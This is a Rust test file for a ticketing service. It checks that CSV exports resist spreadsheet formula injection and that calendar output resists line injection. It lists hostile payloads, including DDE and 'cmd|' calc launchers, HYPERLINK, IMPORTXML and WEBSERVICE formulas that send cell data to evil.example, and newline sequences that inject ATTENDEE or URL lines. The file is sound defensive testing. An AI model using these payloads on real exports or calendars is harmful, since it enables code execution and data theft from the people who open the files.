//! Names and titles that would run in a spreadsheet or break out of their line in a calendar.

use std::collections::BTreeSet;

use futures::TryStreamExt;
use locales::Locale;
use services::{audit, catalog, orders};
use sqlx::PgPool;
use testkit::{Attack, World, tries};

use crate::chance::Chance;

const STARTS: [&str; 16] = [
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "\"=", "'=", ";=", ",=", "|",
];
const FORMULAS: [&str; 8] = [
    "1+1",
    "cmd|'/c calc'!A0",
    "HYPERLINK(\"https://evil.example?x=\"&A1,\"open\")",
    "IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "WEBSERVICE(\"https://evil.example\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "SUM(1+9)*cmd|' /C calc'!A0",
    "\",=1+1,\"",
];
const LINES: [&str; 10] = [
    "a\r\nATTENDEE:mailto:eve@evil.example",
    "a\nEND:VEVENT\nBEGIN:VALARM",
    "a\r\n x",
    "a;b:c",
    "a\\nb",
    "a\rURL:https://evil.example",
    "BEGIN:VEVENT",
    "a\u{2028}ATTACH:https://evil.example",
    "a\u{85}X:1",
    "\",;:\\",
];
/// All that a calendar file of ours says.
const PROPERTIES: [&str; 19] = [
    "BEGIN",
    "VERSION",
    "PRODID",
    "CALSCALE",
    "X-WR-CALNAME",
    "NAME",
    "UID",
    "SUMMARY",
    "DESCRIPTION",
    "DTSTART",
    "DTEND",
    "DTSTAMP",
    "SEQUENCE",
    "STATUS",
    "LOCATION",
    "URL",
    "END",
    "CREATED",
    "LAST-MODIFIED",
];

fn payload(number: usize, chance: &Chance) -> String {
    let start = STARTS[number % STARTS.len()];
    let formula = FORMULAS[number / STARTS.len() % FORMULAS.len()];
    let padding = if number < 128 {
        String::new()
    } else {
        format!("{}", chance.number())
    };
    format!("{start}{formula}{padding}")
}

#[tokio::test]
async fn no_cell_is_a_formula() {
    let w = World::new().await;
    let event = w
        .event("Night")
        .ticket_type("Standing", 0, 5000)
        .published()
        .await;
    for number in 0..tries(2, 20) {
        w.buyer(&format!("Buyer {number}"))
            .buys(&event, "Standing", 10)
            .await
            .unwrap();
    }
    w.work().await;
    let db = PgPool::connect(w.database_url()).await.unwrap();
    let tickets: Vec<uuid::Uuid> = sqlx::query_scalar("select id from tickets")
        .fetch_all(&db)
        .await
        .unwrap();
    let chance = Chance::new(14);
    let mut attack = Attack::on("cells of exports that run as formulas");
    for (number, ticket) in tickets.iter().enumerate() {
        let [name, email, kind, reason] =
            [0, 1, 2, 3].map(|shift| payload(number * 7 + shift * 31, &chance));
        for (sql, value) in [
            ("update tickets set holder_name = $2 where id = $1", &name),
            ("update tickets set holder_email = $2 where id = $1", &email),
            (
                "update ticket_types set name = $2 where id = (select ticket_type_id from tickets where id = $1)",
                &kind,
            ),
            (
                "update orders set buyer_name = $2 where id = (select order_id from tickets where id = $1)",
                &name,
            ),
        ] {
            sqlx::query(sql)
                .bind(ticket)
                .bind(value)
                .execute(&db)
                .await
                .unwrap();
        }
        sqlx::query("insert into audit_entries (id, organization_id, action, subject_kind, subject_id, reason, occurred_at)
                     values (gen_random_uuid(), $1, $2, 'order', $3, $2, now())")
            .bind(event.organization.id.get()).bind(&reason).bind(&name).execute(&db).await.unwrap();
    }
    let people: Vec<Vec<u8>> =
        orders::export_attendees(&w.sv, &event.organization.permit(), event.id, Locale::En)
            .await
            .unwrap()
            .unwrap()
            .try_collect()
            .await
            .unwrap();
    let record: Vec<Vec<u8>> = audit::export(&w.sv, &event.organization.permit())
        .try_collect()
        .await
        .unwrap();
    for (what, file) in [("attendees", people.concat()), ("record", record.concat())] {
        let mut rows = 0;
        for row in csv::Reader::from_reader(file.as_slice()).records() {
            let row = row.unwrap();
            rows += 1;
            for cell in &row {
                let runs = cell
                    .starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
                attack.note(runs, || format!("{what}: {cell}"));
            }
        }
        assert_eq!(rows, tickets.len(), "{what}");
    }
    attack.end(tickets.len() * 6);
}

#[tokio::test]
async fn no_line_of_a_calendar_is_anothers() {
    let w = World::new().await;
    let event = w
        .event("Night")
        .ticket_type("Standing", 0, 50)
        .published()
        .await;
    let db = PgPool::connect(w.database_url()).await.unwrap();
    let chance = Chance::new(15);
    let mut attack = Attack::on("words that become lines of a calendar");
    let count = tries(30, 500);
    for number in 0..count {
        let word = if number % 2 == 0 {
            LINES[number / 2 % LINES.len()].to_owned()
        } else {
            payload(number, &chance).replace('\t', "\n")
        };
        for field in [
            "title",
            "summary",
            "venue_name",
            "venue_address",
            "venue_city",
        ] {
            let sql = format!("update events set {field} = $1");
            sqlx::query(sqlx::AssertSqlSafe(sql))
                .bind(&word)
                .execute(&db)
                .await
                .unwrap();
        }
        sqlx::query("update organizations set name = $1")
            .bind(&word)
            .execute(&db)
            .await
            .unwrap();
        let text = catalog::calendar(&w.sv, &event.slug)
            .await
            .unwrap()
            .unwrap();
        // Folded lines go on after a space; some readers end a line at other signs, too.
        let unfolded = text.replace("\r\n ", "").replace("\n ", "");
        let names: BTreeSet<&str> = unfolded
            .split(['\n', '\r', '\u{85}', '\u{2028}'])
            .filter(|line| !line.is_empty())
            .map(|line| line.split([':', ';']).next().unwrap())
            .collect();
        let foreign: Vec<_> = names
            .into_iter()
            .filter(|name| !PROPERTIES.contains(name))
            .collect();
        let events = unfolded
            .lines()
            .filter(|line| *line == "BEGIN:VEVENT")
            .count();
        attack.note(!foreign.is_empty() || events != 1, || {
            format!("{word:?}: {foreign:?} {events}")
        });
    }
    attack.end(count);
}
